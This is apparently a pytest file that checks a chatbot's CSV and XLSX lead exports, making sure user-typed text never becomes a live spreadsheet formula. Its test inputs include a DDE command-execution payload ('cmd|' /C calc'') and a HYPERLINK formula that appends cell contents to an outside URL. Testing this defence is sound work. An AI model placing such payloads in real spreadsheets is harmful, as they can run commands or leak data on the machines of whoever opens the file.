"""What people typed, in a spreadsheet: a text, never a formula."""

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select, update

from orgbot.knowledge.model import KnowledgeBase
from orgbot.matching.decision import Matcher
from orgbot.storage.tables import leads
from tests.street import OWNER, Street, street

pytestmark = pytest.mark.anyio

FORMULAS = (
    '=HYPERLINK("https://x.org/"&A1,"ici")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "\u200b=1+1",
)
# A release that cleaned less, or another program, may have left these.
KEPT = ("\t=1+1", "\r=1+1", "\n=1+1", "\tA1", "\rA1")
# What opens a formula, in any program that reads tables.
RISKY = tuple("=+-@＝＋－＠\t\r\n")


async def ask(lane: Street, text: str) -> None:
    chat = await lane.newcomer(text)
    for line in ("/contact", f"A {text}", f"A {text}", "418 555-0199", text, "oui", "envoyer"):
        await lane.say(line, chat)


def left(lane: Street, formulas: tuple[str, ...]) -> None:
    """In the rows themselves."""
    with lane.parts.store.engine.begin() as connection:
        rows = connection.execute(select(leads.c.id, leads.c.lead)).all()
        for row, formula in zip(rows, formulas, strict=False):
            lead = {
                **json.loads(row.lead),
                "organisation": formula,
                "subject": formula,
                "first_name": formula,
            }
            connection.execute(update(leads).where(leads.c.id == row.id).values(lead=json.dumps(lead)))


async def exported(lane: Street) -> dict[str, bytes]:
    sent = [one["document"] for one in await lane.say("/export", OWNER)]
    return {one["file_name"].rpartition(".")[2]: lane.world.files[one["file_id"]].content for one in sent}


async def test_no_cell_of_an_export_is_a_formula(tmp_path: Path, kb: KnowledgeBase, matcher: Matcher) -> None:
    async with street(tmp_path, kb, matcher) as lane:
        for formula in FORMULAS:
            await ask(lane, formula)
        left(lane, KEPT)
        files = await exported(lane)
        rows = list(csv.reader(io.StringIO(files["csv"].decode("utf-8-sig"), newline=""), delimiter=";"))
        assert len(rows) == 1 + len(FORMULAS)
        cells = [cell for row in rows for cell in row]
        assert [cell for cell in cells if cell.startswith(RISKY) or cell.lstrip().startswith(RISKY)] == []
        assert any(cell == f"'{KEPT[0]}" for cell in cells)
        sheet = openpyxl.load_workbook(io.BytesIO(files["xlsx"])).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        assert any(cell.value == "=1+1" for row in sheet.iter_rows() for cell in row)
